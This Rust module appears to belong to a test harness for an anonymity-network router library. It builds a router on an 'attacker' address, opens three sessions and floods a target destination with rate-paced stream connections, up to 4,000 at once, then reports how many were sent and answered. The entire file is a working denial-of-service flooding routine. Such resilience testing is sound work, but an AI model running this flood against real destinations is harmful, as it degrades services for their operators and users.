// SPDX-License-Identifier: MIT
//! New streams without end, from three destinations of a router of our own.

use crate::pace::{Pace, Report};
use crate::{Args, craft};
use anyhow::{Context, Result, bail};
use samovar::destination::{ConnectOptions, Session, SessionConfig};
use samovar::router::{Router, RouterConfig, Stage};
use samovar::wire::Destination;
use std::cell::Cell;
use std::rc::Rc;
use std::time::Duration;
use tokio::time::timeout;

const DESTINATIONS: usize = 3;
/// Streams under way at once.
const OPEN_MAX: usize = 4_000;
/// How long each is waited for.
const PATIENCE: Duration = Duration::from_secs(2);

async fn router(args: &Args) -> Result<Router> {
    let at = args.attacker(150);
    let config = RouterConfig {
        host: vec![at.ip()],
        port: at.port(),
        net_id: args.netid,
        test_network: true,
        sam: None,
        ..RouterConfig::default()
    };
    let router = Box::pin(Router::builder().config(config).start()).await?;
    let infos = craft::load_infos(args.peers.as_deref().context("--peers is missing")?)?;
    router.load_routers(infos.iter().map(|i| i.raw().to_vec()).collect()).await;
    Box::pin(router.ready_within(Stage::Tunnels, Duration::from_secs(60))).await.context("no tunnels")?;
    Ok(router)
}

pub async fn flood(args: &Args) -> Result<Report> {
    let text = args.destination.as_deref().context("--destination is missing")?;
    let Ok(destination) = Destination::from_base64(text) else { bail!("--destination is none") };
    let router = router(args).await?;
    let mut sessions: Vec<Rc<Session>> = Vec::new();
    for _ in 0..DESTINATIONS {
        sessions.push(Rc::new(Box::pin(router.session(SessionConfig::transient().tunnels(1, 2))).await?));
    }
    // The lease set is known from here on.
    for session in &sessions {
        let _ = timeout(Duration::from_secs(15), session.lookup(destination.hash())).await;
    }
    args.ready()?;
    let mut pace = Pace::new(args.rate, args.seconds);
    let [sent, answered, open] = [0, 0, 0].map(|n| Rc::new(Cell::new(n)));
    let (mut held, mut turn) = (0u64, 0usize);
    let local = tokio::task::LocalSet::new();
    local
        .run_until(async {
            while let Some(due) = pace.due().await {
                for _ in 0..due {
                    if open.get() >= OPEN_MAX as u64 {
                        held += 1;
                        continue;
                    }
                    turn += 1;
                    let Some(session) = sessions.get(turn % DESTINATIONS).cloned() else { break };
                    let (to, answered, open) = (destination.clone(), answered.clone(), open.clone());
                    sent.set(sent.get() + 1);
                    open.set(open.get() + 1);
                    tokio::task::spawn_local(async move {
                        let options = ConnectOptions { timeout: Some(PATIENCE), ..ConnectOptions::default() };
                        if let Ok(Ok(stream)) = timeout(PATIENCE, session.connect_with(to, options)).await {
                            answered.set(answered.get() + 1);
                            stream.reset();
                        }
                        open.set(open.get() - 1);
                    });
                }
            }
        })
        .await;
    let mut report = Report::default();
    report.count("sent", sent.get());
    report.add("per_second", sent.get() as f64 / pace.elapsed());
    report.count("not_taken", held);
    report.count("answered", answered.get());
    let _ = timeout(Duration::from_secs(3), router.shutdown()).await;
    Ok(report)
}
